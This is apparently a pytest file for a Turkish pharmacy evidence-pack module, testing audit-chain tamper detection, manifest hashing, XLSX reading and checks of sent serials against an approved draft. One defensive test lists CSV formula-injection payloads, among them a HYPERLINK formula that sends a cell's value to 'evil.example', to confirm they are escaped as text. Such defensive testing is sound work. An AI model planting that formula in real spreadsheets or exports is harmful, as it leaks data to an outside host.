"""eczane.domain.evidence without a database: the manifest, the chain excerpt, the pack rules.

Cases are made here by hand (a two-member pack, a three-record chain); the end-to-end pack of a
real sent notification is tests/its/test_evidence_pack.py.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eczane.domain import csv_cells
from eczane.domain import evidence as ev
from eczane.domain.audit import AuditRecord, chain_hash


def chain(n: int = 3, start: int = 4, prev: str = "a" * 64) -> list[tuple[AuditRecord, str, str]]:
    rows = []
    for seq in range(start, start + n):
        rec = AuditRecord(1, seq, f"2025-09-01T08:0{seq % 10}:00+00:00", 5, "x.y", {"n": seq})
        h = chain_hash(prev, rec)
        rows.append((rec, prev, h))
        prev = h
    return rows


def test_a_chain_excerpt_round_trips_and_checks_from_its_link_to_the_entry_before():
    rows = chain()
    back = ev.read_chain(ev.chain_lines(rows))
    assert back == rows
    f = ev.check_chain(back)
    assert f.ok and "3 kayıt (sıra 4–6)" in f.message and "a" * 64 in f.message


@pytest.mark.parametrize(("edit", "message"), [
    # a record's payload changed after the fact
    (lambda r: [r[0], (AuditRecord(1, 5, r[1][0].at, 5, "x.y", {"n": 99}), r[1][1], r[1][2]), r[2]],
     "kayıt 5 değiştirilmiş, özeti tutmuyor"),
    # a record removed
    (lambda r: [r[0], r[2]], "kayıt 5 eksik (sonraki kayıt 6)"),
    # a record relinked to another previous hash
    (lambda r: [r[0], (r[1][0], "b" * 64, r[1][2]), r[2]], "kayıt 5 öncekine bağlı değil"),
    # nothing at all
    (lambda r: [], "denetim kaydı yok"),
])
def test_a_broken_chain_says_which_record(edit, message):
    f = ev.check_chain(edit(chain()))
    assert not f.ok and f.member == ev.CHAIN and message in f.message


def test_a_manifest_lists_every_member_and_its_own_hash():
    members = {"a.txt": b"bir", "b.txt": b"iki"}
    m = ev.manifest_bytes(members, {"submission_id": 7}, {"a.txt": "A"})
    body, f = ev.check_manifest(m)
    assert f.ok and body is not None
    assert [(x["name"], x["size"], x["title"]) for x in body["members"]] == [
        ("a.txt", 3, "A"), ("b.txt", 3, "")]
    assert all(x.ok for x in ev.check_hashes(members, body))


@pytest.mark.parametrize(("data", "message"), [
    (None, "manifest.json yok"),
    (b"{", "manifest.json okunamıyor"),
    (b'{"format": "baska"}', "manifest.json tanınmıyor"),
    (b"\xff", "manifest.json okunamıyor"),
])
def test_a_manifest_that_is_not_ours_is_refused(data, message):
    body, f = ev.check_manifest(data)
    assert body is None and not f.ok and message in f.message


def test_a_manifest_rewritten_with_other_whitespace_is_refused():
    m = ev.manifest_bytes({"a.txt": b"x"}, {})
    _, f = ev.check_manifest(m.replace(b"\n", b"\r\n", 1))
    assert not f.ok and "kendi özeti tutmuyor" in f.message


def test_a_zip_that_is_no_zip_is_named():
    check = ev.verify_zip(b"PK not really")
    assert check.failing == ["(zip)"] and not check.ok


def test_an_unreadable_chain_stops_the_check():
    members = {ev.CHAIN: b"{bozuk\n"}
    members[ev.MANIFEST] = ev.manifest_bytes(members, {})
    check = ev.verify_members(members)
    assert check.failing == [ev.CHAIN]


def xlsx(rows: list[list[str]], *, shared: bool) -> bytes:
    """A minimal workbook with one sheet "Karekodlar" (shared or inline strings)."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    strings: list[str] = []
    cells = []
    for i, row in enumerate(rows, start=1):
        cs = []
        for j, v in enumerate(row):
            ref = f"{chr(65 + j)}{i}"
            if shared:
                strings.append(v)
                cs.append(f'<c r="{ref}" t="s"><v>{len(strings) - 1}</v></c>')
            else:
                cs.append(f'<c r="{ref}" t="inlineStr"><is><t>{v}</t></is></c>')
        cells.append(f'<row r="{i}">{"".join(cs)}</row>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("xl/workbook.xml", f'<workbook {ns} xmlns:r="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships"><sheets><sheet name="Özet" r:id="rId1"/>'
                   '<sheet name="Karekodlar" r:id="rId2"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.'
                   'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                   'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
                   'Target="/xl/worksheets/sheet2.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", f"<worksheet {ns}><sheetData/></worksheet>")
        z.writestr("xl/worksheets/sheet2.xml",
                   f"<worksheet {ns}><sheetData>{''.join(cells)}</sheetData></worksheet>")
        if shared:
            z.writestr("xl/sharedStrings.xml", f"<sst {ns}>" + "".join(
                f"<si><t>{s}</t></si>" for s in strings) + "</sst>")
    return buf.getvalue()


@pytest.mark.parametrize("shared", [True, False])
def test_the_count_export_is_read_with_shared_or_inline_strings(shared):
    body = xlsx([["Grup", "GTIN", "Seri no"], ["Raf", "08680001000011", "S1"]], shared=shared)
    assert ev.counted_keys(body) == {("08680001000011", "S1")}
    with pytest.raises(ValueError, match="'Yok' sayfası yok"):
        ev.xlsx_sheet_rows(body, "Yok")


def pack(kind: str = "deactivation", counted: tuple[str, str] = ("G", "C"),
         sent: list[tuple[str, str, str]] = (("G", "S1", "accepted"), ("G", "S2", "dropped"))
         ) -> dict[str, bytes]:
    draft = {"submission": {"id": 1, "kind": kind}, "approved_packs": [
        {"gtin": "G", "serial": "S1"}, {"gtin": "G", "serial": "S2"}]}
    return {ev.DRAFT: json.dumps(draft).encode(),
            ev.ANSWERS: ev.answers_csv([[g, s, "", "", "", st] + [""] * 7 for g, s, st in sent]),
            ev.COUNT: xlsx([["GTIN", "Seri no"], list(counted)], shared=False)}


def test_sent_packs_must_be_in_the_draft_and_not_counted():
    assert all(f.ok for f in ev.check_packs(pack(), {}))
    bad = ev.check_packs(pack(sent=[("G", "S9", "accepted")]), {})
    assert [f.message for f in bad if not f.ok] == [
        f"{ev.ANSWERS}: 1 gönderilen kutu onaylanan taslakta yok: G/S9."]
    counted = ev.check_packs(pack(counted=("G", "S1")), {})
    assert [f.member for f in counted if not f.ok] == [ev.ANSWERS]


def test_a_pack_counted_after_being_sent_as_expired_is_allowed():
    """Miadı dolanlar (40) are notified whether on hand or not (seed 000 step 2)."""
    found = ev.check_packs(pack(kind="expiry", counted=("G", "S1")), {})
    assert all(f.ok for f in found) and "sayım karşılaştırması yapılmadı" in found[-1].message


@pytest.mark.parametrize(("member", "data"), [
    (ev.DRAFT, b"{}"), (ev.ANSWERS, b"\xff\xfe"), (ev.COUNT, b"not a zip")])
def test_an_unreadable_member_is_named(member, data):
    found = ev.check_packs({**pack(), member: data}, {})
    assert member in [f.member for f in found if not f.ok]


def test_many_keys_are_shortened():
    keys = [("G", f"S{i}") for i in range(7)]
    assert ev._keys_text(keys).endswith("G/S4 ve 2 kutu daha")


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&B9,"Tıkla")', "+1", "-1+1", "@SUM(1)",
            "\t=1", "'=1", "\r=1"]


@pytest.mark.parametrize("serial", FORMULAS, ids=repr)
def test_a_serial_or_answer_that_looks_like_a_formula_leaves_the_csv_as_text(serial):
    """A serial may start with = + - (GS1 set 82), İTS's texts come from outside: in the CSV
    the cell starts with an apostrophe (a spreadsheet shows it, runs nothing), and the check
    reads back the very serial the draft approved."""
    body = ev.answers_csv([["G", serial, "", "", serial, "accepted", "", "", serial] + [""] * 4])
    [raw] = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))[1:]
    assert [raw[1], raw[4], raw[8]] == ["'" + serial] * 3
    [row] = ev.answer_rows(body)
    assert row["Seri no"] == row["Ürün"] == row["İTS açıklaması"] == serial
    draft = {"submission": {"id": 1, "kind": "deactivation"},
             "approved_packs": [{"gtin": "G", "serial": serial}]}
    found = ev.check_packs({ev.DRAFT: json.dumps(draft).encode(), ev.ANSWERS: body,
                            ev.COUNT: xlsx([["GTIN", "Seri no"], ["G", "S0"]], shared=False)}, {})
    assert all(f.ok for f in found), [f.message for f in found]


@given(st.text())
def test_every_value_comes_back_from_its_cell_and_no_cell_starts_a_formula(value):
    cell = csv_cells.to_cell(value)
    assert csv_cells.from_cell(cell) == value
    assert not cell.startswith(csv_cells.RUNS[:-1])
